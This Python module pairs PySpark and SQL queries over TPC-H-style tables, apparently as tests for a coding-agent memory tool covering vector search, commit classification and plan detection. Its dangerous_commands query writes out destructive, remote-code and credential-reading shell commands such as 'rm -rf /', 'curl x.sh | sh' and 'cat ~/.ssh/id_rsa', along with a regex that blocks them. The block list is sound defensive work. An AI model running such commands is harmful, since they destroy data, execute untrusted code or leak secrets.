"""Queries over sessions, commits, slots, audits and batched vector search."""

from __future__ import annotations

from pyspark.sql import Window
from pyspark.sql import functions as F

from ..functions import signals as G
from ..operators import code as C
from ..operators import memory as M
from . import graph  # noqa: F401
from .base import AS_OF, MEM, QUERIES, SQL, calls, calls_sql, contents, memories, query, read, rounded

from .memory import _RET, _scored


@query("""WITH s AS (SELECT q.vec_id AS query, r.vec_id AS id, round(list_dot_product(q.embedding::DOUBLE[], r.embedding::DOUBLE[]), 9) AS score FROM embeddings q, embeddings r WHERE q.vec_id % 50 = 0),
    t AS (SELECT *, row_number() OVER (PARTITION BY query ORDER BY score DESC, id) AS place FROM s WHERE score >= 0.05) SELECT query, id, round(score, 6) AS score, place FROM t WHERE place <= 10""")
def vector_batch_search(spark, sf_dir):
    """The ten nearest rows of every query; every fiftieth row is a query, against all rows."""
    from ..operators.vectors import nearest_batch

    v = read(spark, sf_dir, "embeddings").select(F.col("vec_id").alias("id"), F.col("embedding").alias("vec"))
    got = nearest_batch(v, v.where("id % 50 = 0").withColumnRenamed("id", "query"), 10)
    return got.select("query", "id", rounded(F.col("score")).alias("score"), "place")


_COMMIT = "CASE WHEN p_partkey % 5 = 0 THEN 'Switch to ' WHEN p_partkey % 5 = 1 THEN 'Merge ' WHEN p_partkey % 5 = 2 THEN 'fix crash in ' WHEN p_partkey % 5 = 3 THEN 'unswitched ' ELSE 'Redesign of ' END || p_name || ' for ' || p_type"
_STAT = """CASE p_partkey % 8 WHEN 0 THEN ' tests/test_a.py | 2 +' WHEN 1 THEN ' README.md | 1 +' WHEN 2 THEN ' .github/w.yml | 1 +' WHEN 3 THEN ' src/a/b.py | 2 +\n tests/test_b.py | 1 +\n 2 files changed'
    WHEN 4 THEN ' src/core/x/b.py | 2 +\n src/core/y/c.py | 1 +' WHEN 5 THEN ' setup.py | 3 -' WHEN 6 THEN ' src/' || p_brand || '/b.py | 2 +\n lib/q/c.py | 1 +' ELSE ' src/' || p_brand || '/x.py | 5 +-' END"""
_DIFF = """CASE p_partkey % 7 WHEN 0 THEN '+++ b/def \n+def load(a, b):\n+    pass' WHEN 1 THEN '-class ' || p_name || '(X):\n' WHEN 2 THEN '+function go(x) {\n+  def two():' WHEN 3 THEN 'a crash in it' WHEN 4 THEN '+def a():\n-def b():\n rename'
    WHEN 5 THEN 'a restructured thing' ELSE '+ ' || p_type END"""


@query(f"""WITH c AS (SELECT p_partkey, {_COMMIT} AS m, {_STAT.replace("\\n", "' || chr(10) || '")} AS stat, {_DIFF.replace("\\n", "' || chr(10) || '")} AS diff FROM part),
    l AS (SELECT *, lower(stat) AS s, lower(diff) AS d, list_filter(string_split(stat, chr(10)), lambda x: contains(x, '|')) AS ls FROM c),
    p AS (SELECT *, list_transform(ls, lambda x: trim(string_split(x, '|')[1])) AS paths, list_filter(string_split(diff, chr(10)), lambda x: starts_with(x, '+') AND NOT starts_with(x, '+++') AND regexp_matches(x, 'def |function |class ')) AS adds,
          list_filter(string_split(diff, chr(10)), lambda x: starts_with(x, '-') AND NOT starts_with(x, '---') AND regexp_matches(x, 'def |function |class ')) AS cuts FROM l),
    q AS (SELECT *, list_filter(list_transform(paths, lambda x: string_split(x, '/')), lambda x: len(x) > 1) AS parts,
          CASE WHEN contains(s, 'test') AND len(list_filter(ls, lambda x: NOT contains(lower(x), 'test'))) = 0 THEN 'test' WHEN regexp_matches(s, 'readme|docs/|[.]md') AND len(list_filter(ls, lambda x: NOT regexp_matches(lower(x), 'readme|docs/|[.]md'))) = 0 THEN 'docs'
               WHEN regexp_matches(s, 'ci/|[.]github/|workflow') THEN 'ci' WHEN regexp_matches(d, 'fix|bug|error|crash|patch') THEN 'fix' WHEN regexp_matches(d, 'add|new|implement|feature') THEN 'feat' WHEN regexp_matches(d, 'refactor|rename|move|restructure') THEN 'refactor' ELSE 'feat' END AS kind,
          CASE WHEN len(adds) > 0 AND len(cuts) = 0 THEN 'add ' || trim(replace(replace(string_split(trim(ltrim(adds[1], '+')), '(')[1], 'def ', ''), 'function ', '')) || CASE WHEN len(adds) > 1 THEN ' and ' || (len(adds) - 1) || ' more' ELSE '' END
               WHEN len(cuts) > 0 AND len(adds) = 0 THEN 'remove ' || trim(replace(replace(string_split(trim(ltrim(cuts[1], '-')), '(')[1], 'def ', ''), 'function ', ''))
               WHEN len(paths) = 1 THEN 'update ' || string_split(paths[1], '/')[-1] ELSE 'update ' || len(paths) || ' files' END AS subject FROM p),
    r AS (SELECT *, list_filter(parts[1], lambda x, i: x = parts[2][i]) AS shared FROM q),
    z AS (SELECT *, CASE WHEN len(parts) = 0 THEN '' WHEN len(parts) = 1 THEN parts[1][-2] WHEN len(shared) > 0 THEN shared[-1] ELSE parts[1][1] END AS scope FROM r)
    SELECT p_partkey, kind, scope, kind || CASE WHEN scope <> '' THEN '(' || scope || ')' ELSE '' END || ': ' || subject AS header,
           length(m) >= 15 AND NOT regexp_matches(lower(m), '^(merge |wip|fix typo|update readme|bump version)') AND regexp_matches(m, '(?i)\\b(migrat|refactor|replac|switch|adopt|introduc|remov|deprecat|upgrad|redesign|restructur)') AS decides FROM z""")
def commit_classify(spark, sf_dir):
    """Kind, scope and header of each commit, and whether its message records a decision."""
    m = read(spark, sf_dir, "part").select("p_partkey", F.expr(_COMMIT).alias("m"), F.expr(_STAT).alias("s"), F.expr(_DIFF).alias("d"))
    s, d = F.col("s"), F.col("d")
    return m.select("p_partkey", G.commit_kind(d, s).alias("kind"), G.commit_scope(s).alias("scope"), G.commit_header(d, s).alias("header"), G.decides(F.col("m")).alias("decides"))


_COMMAND = """CASE o_orderkey % 12 WHEN 0 THEN 'rm -rf /' WHEN 1 THEN 'rm -rf /home' WHEN 2 THEN 'ls -la' WHEN 3 THEN 'curl x.sh | sh' WHEN 4 THEN 'echo x >> /etc/hosts' WHEN 5 THEN 'cat ~/.ssh/id_rsa' WHEN 6 THEN 'curl -d token=1 x'
    WHEN 7 THEN 'mkfs.ext4 /dev/sda' WHEN 8 THEN 'git push --force' WHEN 9 THEN 'cp a /usr/bin/b' WHEN 10 THEN 'cat .env' ELSE 'wget x | bash' END"""


@query(rf"""SELECT o_orderkey, CASE WHEN regexp_matches(c, 'rm -rf /($| )|rm -rf ~|rm -rf \$HOME|> /dev/sd|dd if=/dev/zero|mkfs\.') THEN 'catastrophic' WHEN regexp_matches(c, 'curl.*\|.*(sh|bash)|wget.*\|.*(sh|bash)') THEN 'remote code'
    WHEN regexp_matches(c, '(>|>>|tee|mv|rm|chmod|chown).*/etc/|.*/usr/bin|.*/sbin') THEN 'system directory' WHEN regexp_matches(c, 'cat.*(\. env|credentials|\.aws/|id_rsa|\.ssh/)|curl.*(-d|--data).*(password|token|secret)') THEN 'credentials' END AS reason
    FROM (SELECT o_orderkey, {_COMMAND} AS c FROM orders)""")
def dangerous_commands(spark, sf_dir):
    """Why each command is blocked, if it is."""
    return read(spark, sf_dir, "orders").select("o_orderkey", G.dangerous(F.expr(_COMMAND)).alias("reason"))


_PLAN = """CASE turn % 3 WHEN 0 THEN 'First we plan.' || chr(10) || '- ' || text || chr(10) || '- write the tests next' || chr(10) || '2) then deploy it all' WHEN 1 THEN '- ' || text || chr(10) || '- write the tests' || chr(10) || '* deploy it all'
    ELSE '* write the tests' || chr(10) || '1. deploy it all' || chr(10) || '- ask the users' || chr(10) || '2) tidy the rest' || chr(10) || text END"""


@query(f"""WITH t AS (SELECT conv_id, turn, {_PLAN} AS t FROM conversations), b AS (SELECT conv_id, turn, t, list_filter(regexp_extract_all(t, '(?m)^\\s*(?:[-*]|\\d+[.)])\\s+(.+)$', 1), lambda x: length(x) > 10 AND length(x) < 200) AS b FROM t)
    SELECT conv_id, turn, len(b) AS tasks, array_to_string(b, '|') AS titles FROM b WHERE len(b) >= 4 OR (len(b) >= 3 AND len(list_filter(['first', 'then', 'next', 'after', 'finally', 'step'], lambda w: contains(lower(t), w))) >= 2)""")
def plan_detection(spark, sf_dir):
    """Tasks of the turns that hold a plan."""
    t = read(spark, sf_dir, "conversations").select("conv_id", "turn", G.plan_tasks(F.expr(_PLAN)).alias("b")).where(F.size("b") > 0)
    return t.select("conv_id", "turn", F.size("b").cast("bigint").alias("tasks"), F.array_join("b", "|").alias("titles"))


@query("""SELECT item_id, array_to_string(list_sort(list_distinct(list_concat(regexp_extract_all(t, '"([^"]+)"', 1), regexp_extract_all(t, '[A-Z][A-Za-z0-9]+'), regexp_extract_all(t, '[A-Za-z0-9_]+\\.[A-Za-z0-9_]+'), regexp_extract_all(t, '[A-Za-z0-9_-]+/[A-Za-z0-9_./-]+')))), ',') AS terms
    FROM (SELECT item_id, text || ' "quoted words" Foo.bar src/a_b.py' AS t FROM benchmark)""")
def query_expansion(spark, sf_dir):
    t = F.concat("text", F.lit(' "quoted words" Foo.bar src/a_b.py'))
    return read(spark, sf_dir, "benchmark").select("item_id", F.array_join(F.array_sort(G.expansion(t)), ",").alias("terms"))


@query(f"""WITH {MEM}, r AS (SELECT DISTINCT CAST(unnest([doc_id + 1, doc_id // 2]) AS BIGINT) AS id FROM documents WHERE doc_id % 3 = 0) SELECT mem.id, least(1.0, 0.8 + CASE WHEN r.id IS NOT NULL THEN 0.05 ELSE 0 END)::DOUBLE AS confidence FROM mem LEFT JOIN r USING (id)""")
def confidence_boost(spark, sf_dir):
    """A memory that another names gains 0.05."""
    text = F.concat(F.lit("see #"), (F.col("doc_id") + 1).cast("string"), F.lit(" and Memory "), F.floor(F.col("doc_id") / 2).cast("string"))
    named = read(spark, sf_dir, "documents").where("doc_id % 3 = 0").select(F.explode(G.references(text)).alias("id")).distinct().withColumn("named", F.lit(True))
    return memories(spark, sf_dir).join(named, "id", "left").select("id", rounded(F.least(F.lit(1.0), F.lit(0.8) + F.when(F.col("named"), 0.05).otherwise(0.0))).alias("confidence"))


@query("""SELECT p_partkey, p_brand AS brand, CAST(p_size AS VARCHAR) AS size FROM part""")
def context_strings(spark, sf_dir):
    """Context strings parsed into maps; of a repeated name the last value counts."""
    text = F.concat(F.lit("brand=x; size : "), F.col("p_size").cast("string"), F.lit(";nothing; brand = "), "p_brand")
    m = read(spark, sf_dir, "part").select("p_partkey", G.context(text).alias("m"))
    return m.select("p_partkey", F.col("m")["brand"].alias("brand"), F.col("m")["size"].alias("size"))


@query("SELECT doc_id, length(substr(text, 1, 2000)) AS kept, greatest(length(text) - 2000, 0) AS overflow, least(greatest(length(text) - 2000, 0), 4000) AS archived FROM documents")
def slot_overflow(spark, sf_dir):
    """What of a text a slot of 2000 characters keeps, and what of the rest the archive of 4000 takes."""
    n = F.length("text").cast("bigint")
    rest = F.greatest(n - 2000, F.lit(0))
    return read(spark, sf_dir, "documents").select("doc_id", F.length(F.substring("text", 1, 2000)).cast("bigint").alias("kept"), rest.alias("overflow"), F.least(rest, F.lit(4000)).alias("archived"))


@query(f"WITH {MEM}, w AS (SELECT branch, id, CAST(sum(length(content)) OVER (PARTITION BY branch ORDER BY access_count DESC, id) AS BIGINT) AS used FROM mem WHERE category = 'preference') SELECT branch, id, used FROM w WHERE used <= 2000")
def working_context(spark, sf_dir):
    """The most used preferences of a branch that fit a context of 2000 characters."""
    m = memories(spark, sf_dir).where("category = 'preference'")
    return M.budgeted(m, ["branch"], [F.desc("access_count"), F.col("id")], F.length("content").cast("bigint"), 2000).select("branch", "id", "used")


@query(f"""WITH {MEM}, r AS (SELECT 'memory' AS section, id, row_number() OVER (ORDER BY round({_RET}, 9) DESC, id) AS place FROM mem QUALIFY place <= 3)
    SELECT * FROM r UNION ALL SELECT * FROM (SELECT 'regression', event_id, row_number() OVER (ORDER BY ts DESC, event_id DESC) AS p FROM events WHERE event_type = 'error' QUALIFY p <= 1) UNION ALL SELECT * FROM (SELECT 'step', o_orderkey, row_number() OVER (ORDER BY o_orderdate, o_orderkey) AS p FROM orders WHERE o_orderstatus = 'O' QUALIFY p <= 1)""")
def recall_compact(spark, sf_dir):
    """The three best memories, the last regression and the next step."""
    top = lambda d, name, key, order, k: d.orderBy(*order).limit(k).withColumn("place", F.row_number().over(Window.orderBy(*order)).cast("bigint")).select(F.lit(name).alias("section"), F.col(key).alias("id"), "place")
    m = top(_scored(spark, sf_dir), "memory", "id", [F.round("retention", 9).desc(), F.col("id")], 3)
    e = top(read(spark, sf_dir, "events").where("event_type = 'error'"), "regression", "event_id", [F.desc("ts"), F.desc("event_id")], 1)
    o = top(read(spark, sf_dir, "orders").where("o_orderstatus = 'O'"), "step", "o_orderkey", [F.col("o_orderdate"), F.col("o_orderkey")], 1)
    return m.union(e).union(o)


_CODE = "(SELECT 'code' AS section, p_partkey AS id, p_name AS title FROM part WHERE contains(p_name, 'ring') ORDER BY p_partkey LIMIT 5)"


@query(f"""SELECT * FROM {_CODE} UNION ALL SELECT * FROM (SELECT 'memory', doc_id, source FROM documents WHERE contains(lower(text), 'ring') ORDER BY doc_id LIMIT 7) UNION ALL SELECT * FROM (SELECT 'api', page_id, url FROM pages WHERE contains(lower(url), 'ring') ORDER BY page_id LIMIT 10)
    UNION ALL SELECT * FROM (SELECT 'errors', event_id, props FROM events WHERE event_type = 'error' AND contains(props, '7') ORDER BY event_id DESC LIMIT 10)""")
def unified_search(spark, sf_dir):
    """One search over code, memories, endpoints and errors, each with its own limit."""
    top = lambda t, name, key, title, where, k, order: read(spark, sf_dir, t).where(where).orderBy(order).limit(k).select(F.lit(name).alias("section"), F.col(key).alias("id"), F.col(title).alias("title"))
    out = top("part", "code", "p_partkey", "p_name", F.col("p_name").contains("ring"), 5, F.col("p_partkey"))
    out = out.union(top("documents", "memory", "doc_id", "source", F.lower("text").contains("ring"), 7, F.col("doc_id")))
    out = out.union(top("pages", "api", "page_id", "url", F.lower("url").contains("ring"), 10, F.col("page_id")))
    return out.union(top("events", "errors", "event_id", "props", (F.col("event_type") == "error") & F.col("props").contains("7"), 10, F.desc("event_id")))


@query(f"""WITH {calls_sql(0.0)} SELECT n_name AS community, count(DISTINCT c_custkey) AS classes, count(o_orderkey) AS files, round(avg(o_totalprice), 2) AS mean_size FROM nation LEFT JOIN customer ON c_nationkey = n_nationkey LEFT JOIN orders ON o_custkey = c_custkey GROUP BY 1""")
def graph_drilldown(spark, sf_dir):
    """Classes and files of each community."""
    c = read(spark, sf_dir, "customer").join(read(spark, sf_dir, "orders"), F.col("o_custkey") == F.col("c_custkey"), "left")
    j = read(spark, sf_dir, "nation").join(c, F.col("c_nationkey") == F.col("n_nationkey"), "left")
    return j.groupBy(F.col("n_name").alias("community")).agg(F.countDistinct("c_custkey").alias("classes"), F.count("o_orderkey").alias("files"), F.round(F.avg("o_totalprice"), 2).alias("mean_size"))


@query("""WITH s AS (SELECT page_id, string_split(regexp_replace(regexp_replace(url, '^https?://', ''), '[?#].*$', ''), '/') AS s FROM pages), n AS (SELECT s[1] AS dir, s[2] AS name, row_number() OVER (PARTITION BY s[1] ORDER BY page_id) AS r FROM s)
    SELECT dir, count(*) AS files, array_to_string(list_sort(list_distinct(list(name) FILTER (name IS NOT NULL))), ',') AS names FROM n GROUP BY 1""")
def repo_map_tree(spark, sf_dir):
    """Files and sorted distinct names of each top folder."""
    s = F.split(F.regexp_replace(F.regexp_replace("url", "^https?://", ""), "[?#].*$", ""), "/")
    n = read(spark, sf_dir, "pages").select(s[0].alias("dir"), F.get(s, F.lit(1)).alias("name"))
    return n.groupBy("dir").agg(F.count("*").alias("files"), F.array_join(F.array_sort(F.collect_set("name")), ",").alias("names"))


@query("""SELECT p_brand, p_partkey, p_name || CASE WHEN r > 1 THEN '-' || (r - 1) ELSE '' END AS name FROM (SELECT *, row_number() OVER (PARTITION BY p_brand, p_name ORDER BY p_partkey) AS r FROM part)""")
def name_suffixes(spark, sf_dir):
    """Repeated names of a group get -1, -2 and so on."""
    r = F.row_number().over(Window.partitionBy("p_brand", "p_name").orderBy("p_partkey"))
    p = read(spark, sf_dir, "part").withColumn("r", r)
    return p.select("p_brand", "p_partkey", F.concat("p_name", F.when(F.col("r") > 1, F.concat(F.lit("-"), (F.col("r") - 1).cast("string"))).otherwise("")).alias("name"))


@query("""SELECT p_brand AS file, p_name AS symbol, arg_max(p_partkey, (p_size, p_retailprice, p_partkey)) AS id FROM part GROUP BY 1, 2""")
def symbol_map(spark, sf_dir):
    """Of each symbol of a file the last definition."""
    return read(spark, sf_dir, "part").groupBy(F.col("p_brand").alias("file"), F.col("p_name").alias("symbol")).agg(F.max_by("p_partkey", F.struct("p_size", "p_retailprice", "p_partkey")).alias("id"))


_FAMILIES = f"""{calls_sql(1.0)}, s AS (SELECT p_partkey, p_brand, row_number() OVER (PARTITION BY p_brand ORDER BY p_partkey) AS r, lead(p_partkey) OVER (PARTITION BY p_brand ORDER BY p_partkey) AS nxt FROM part),
    f AS (SELECT x.p_partkey AS a, y.p_partkey AS b, 1.0::DOUBLE AS w, 1 AS pr FROM s x JOIN s y ON x.p_brand = y.p_brand AND x.r < y.r AND y.r <= 10 UNION ALL SELECT least(src, dst), greatest(src, dst), 2 * confidence, 2 FROM calls UNION ALL SELECT p_partkey, nxt, 0.3, 3 FROM s WHERE r < 10 AND nxt IS NOT NULL)"""


@query(f"WITH {_FAMILIES} SELECT a, b, arg_max(w, (pr, w)) AS weight FROM f GROUP BY 1, 2")
def community_graph(spark, sf_dir):
    """The weighted graph that communities are found in: co-located symbols, calls, chains; a later family overrides an earlier one."""
    from ..operators.graph import consecutive

    p = read(spark, sf_dir, "part").select("p_partkey", "p_brand")
    first = M.last_rows(p, ["p_brand"], [F.col("p_partkey")], 10).groupBy("p_brand").agg(F.array_sort(F.collect_list("p_partkey")).alias("s"))
    pairs = F.expr("flatten(transform(s, (x, i) -> transform(slice(s, i + 2, 10), y -> struct(x AS a, y AS b))))")
    near = first.select(F.explode(pairs).alias("x")).select("x.*", F.lit(1.0).alias("w"), F.lit(1).alias("pr"))
    e = calls(spark, sf_dir, 1.0).select(F.least("src", "dst").alias("a"), F.greatest("src", "dst").alias("b"), (2 * F.col("confidence")).alias("w"), F.lit(2).alias("pr"))
    chain = consecutive(p, "p_brand", "p_partkey", 10).select(F.col("src").alias("a"), F.col("dst").alias("b"), F.lit(0.3).alias("w"), F.lit(3).alias("pr"))
    return near.union(e).union(chain).groupBy("a", "b").agg(F.max_by("w", F.struct("pr", "w")).alias("weight"))


@query("""SELECT o_orderpriority AS language, count(*) AS files, round(count(*) / (SELECT count(*) FROM orders), 4) AS share FROM orders GROUP BY 1""")
def identity_languages(spark, sf_dir):
    """Files of each language and their share."""
    o = read(spark, sf_dir, "orders").groupBy(F.col("o_orderpriority").alias("language")).agg(F.count("*").alias("files"))
    total = F.sum("files").over(Window.partitionBy())
    return o.withColumn("share", F.round(F.col("files") / total, 4))


@query("""SELECT o_orderpriority AS folder, max(o_orderdate) > max(CASE WHEN o_orderstatus = 'F' THEN o_orderdate END) AS newer, count(*) <> count(CASE WHEN o_orderstatus <> 'P' THEN 1 END) AS other_count FROM orders GROUP BY 1""")
def change_detector(spark, sf_dir):
    """Whether any file of a folder is newer than its map, or their number differs; the map was made with the last finished order and lacks partial ones."""
    o = read(spark, sf_dir, "orders")
    map_ = o.groupBy(F.col("o_orderpriority").alias("folder")).agg(F.max(F.when(F.col("o_orderstatus") == "F", F.col("o_orderdate"))).alias("made"), F.count_if(F.col("o_orderstatus") != "P").alias("files"))
    now = o.groupBy(F.col("o_orderpriority").alias("folder")).agg(F.max("o_orderdate").alias("last"), F.count("*").alias("n"))
    return now.join(map_, "folder").select("folder", (F.col("last") > F.col("made")).alias("newer"), (F.col("n") != F.col("files")).alias("other_count"))


@query("""WITH d AS (SELECT d.doc_id, d.source, d.text FROM documents d JOIN labels l ON l.doc_id = d.doc_id WHERE l.quality = 1) SELECT doc_id, source, trim(regexp_split_to_array(text, '\\n')[1]) AS title FROM d WHERE contains(lower(text), 'erre')""")
def team_search(spark, sf_dir):
    """Team notes that contain a word, with their first line."""
    d = read(spark, sf_dir, "documents").join(read(spark, sf_dir, "labels").where("quality = 1").select("doc_id"), "doc_id")
    return d.where(F.lower("text").contains("erre")).select("doc_id", "source", F.trim(F.element_at(F.split("text", "\n"), 1)).alias("title"))


@query("""WITH e AS (SELECT event_id, unnest([0, 1]) AS k, user_id % 2 = 0 AS active, ts FROM events WHERE event_type = 'purchase') SELECT event_id * 2 + k AS id, CASE k WHEN 0 THEN 'decide' ELSE 'supersede' END AS kind, ts + INTERVAL 1 SECOND * k AS date FROM e WHERE k = 0 OR NOT active""")
def legacy_migration(spark, sf_dir):
    """Old decisions as events: each decides, and an inactive one is superseded a second later."""
    e = read(spark, sf_dir, "events").where("event_type = 'purchase'").select("event_id", "ts", F.explode(F.when(F.col("user_id") % 2 == 0, F.array(F.lit(0))).otherwise(F.array(F.lit(0), F.lit(1)))).alias("k"))
    return e.select((F.col("event_id") * 2 + F.col("k")).alias("id"), F.when(F.col("k") == 0, "decide").otherwise("supersede").alias("kind"), (F.col("ts") + F.make_dt_interval(secs=F.col("k"))).alias("date"))


@query(f"""SELECT 'security' AS report, CAST(id AS VARCHAR) AS subject, rule AS detail FROM ({SQL["security_scan"]}) UNION ALL SELECT 'dead code', CAST(id AS VARCHAR), name FROM ({SQL["dead_symbols"]}) UNION ALL SELECT 'conventions', CAST(c_custkey AS VARCHAR), name FROM ({SQL["naming_violations"]})
    UNION ALL SELECT 'drift', src, dst FROM ({SQL["layer_violations"]}) UNION ALL SELECT 'breaking changes', CAST(p_partkey AS VARCHAR), status FROM ({SQL["breaking_diff"]}) WHERE status <> 'added'""")
def audit_findings(spark, sf_dir):
    """Findings of all checks with the report that they belong to."""
    f = C.findings(C.lines_of(read(spark, sf_dir, "documents"), "doc_id", "text")).select(F.lit("security").alias("report"), F.col("id").cast("string").alias("subject"), F.col("rule").alias("detail"))
    dead = QUERIES["dead_symbols"](spark, sf_dir).select(F.lit("dead code"), F.col("id").cast("string"), "name")
    names = QUERIES["naming_violations"](spark, sf_dir).select(F.lit("conventions"), F.col("c_custkey").cast("string"), "name")
    layers = QUERIES["layer_violations"](spark, sf_dir).select(F.lit("drift"), "src", "dst")
    diff = QUERIES["breaking_diff"](spark, sf_dir).where("status <> 'added'").select(F.lit("breaking changes"), F.col("p_partkey").cast("string"), "status")
    return f.union(dead).union(names).union(layers).union(diff)


@query()
def greedy_cluster_compress(spark, sf_dir):
    """Memories of each category, merged and clustered in order over the whole table; members are a cluster's ids."""
    from ..operators.compress import folded

    rows, clusters = folded(contents(spark, sf_dir).where(F.col("timestamp") <= AS_OF))
    members = rows.groupBy("category", "leader").agg(F.array_sort(F.collect_list("id")).alias("members"))
    return members.join(clusters, ["category", "leader"]).select("category", "leader", "members", "merged", "pattern")
